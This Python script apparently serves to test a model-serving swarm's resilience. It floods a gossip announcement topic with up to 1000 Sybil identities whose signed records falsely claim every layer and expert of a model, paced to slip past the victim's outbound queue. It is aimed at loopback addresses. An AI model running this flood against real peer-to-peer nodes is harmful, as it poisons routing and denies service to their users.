"""A flood of fresh keys on a model's announcement topic, run as its own process.

    python gossip_sybils.py VICTIM_MULTIADDR --model M --layers L --experts E --keys 1000

Generates ``--keys`` fresh Ed25519 keys and, for each, a valid signed announcement claiming every
layer and expert of the model (ranges inside it, a fresh seq, an hour to live, an endpoint nobody
answers at); joins the swarm from 127.0.0.2 (trio's dialer bound there) as one libp2p peer,
subscribes to the topic, waits until the victim is a peer of the topic, then publishes every record
16 at a time, as fast as py-libp2p's outbound queue to the victim (32 RPCs) takes them. Prints one JSON line: how many it published.
"""

from __future__ import annotations

import argparse
import asyncio
import json
import time
from typing import Any

import trio

from moeswarm.net.gossip_view import announce_topic
from moeswarm.net.p2p import P2PConfig, P2PNode
from moeswarm.protocol import Identity, encode, sign_announcement


def bind_dials_to(source: str) -> None:
    open_tcp_stream = trio.open_tcp_stream

    async def from_source(host: str, port: int, **kwargs: Any) -> Any:
        return await open_tcp_stream(host, port, local_address=source, **kwargs)

    trio.open_tcp_stream = from_source  # type: ignore[assignment]


async def main(args: argparse.Namespace) -> dict[str, Any]:
    now = int(time.time() * 1000)
    records = [encode(sign_announcement(
        Identity.generate(), model_id=args.model, layers=(0, args.layers - 1), experts=(0, args.experts - 1),
        endpoints=("tcp+tls://127.0.0.9:1",), capacity_bytes=1, throughput=10**6, load_permille=0,
        software="attacker", seq=now, expires_at_ms=now + 3_600_000)) for _ in range(args.keys)]
    topic = announce_topic(args.model)
    victim = args.victim.rsplit("/", 1)[-1]
    config = P2PConfig(listen=f"/ip4/{args.source}/tcp/0", bootstrap=(args.victim,))
    async with P2PNode(Identity.generate(), config) as node:
        await node.subscribe(topic, lambda *_: True)
        async with asyncio.timeout(30):
            while victim not in await node.topic_peers(topic):
                await asyncio.sleep(0.1)
        t0 = time.monotonic()
        for n, value in enumerate(records):  # paced to the outbound queue (32 RPCs per peer, then dropped)
            await node.publish(topic, value)
            if n % 16 == 15:
                await asyncio.sleep(args.pause)
        seconds = time.monotonic() - t0
        await asyncio.sleep(args.linger)  # let the last ones through before the connection goes
    return {"published": len(records), "seconds": round(seconds, 2)}


if __name__ == "__main__":
    parser = argparse.ArgumentParser()
    parser.add_argument("victim")
    parser.add_argument("--model", required=True)
    parser.add_argument("--layers", type=int, required=True)
    parser.add_argument("--experts", type=int, required=True)
    parser.add_argument("--keys", type=int, default=1000)
    parser.add_argument("--source", default="127.0.0.2")
    parser.add_argument("--linger", type=float, default=5.0)
    parser.add_argument("--pause", type=float, default=0.05)
    arguments = parser.parse_args()
    bind_dials_to(arguments.source)
    print(json.dumps(asyncio.run(main(arguments))), flush=True)
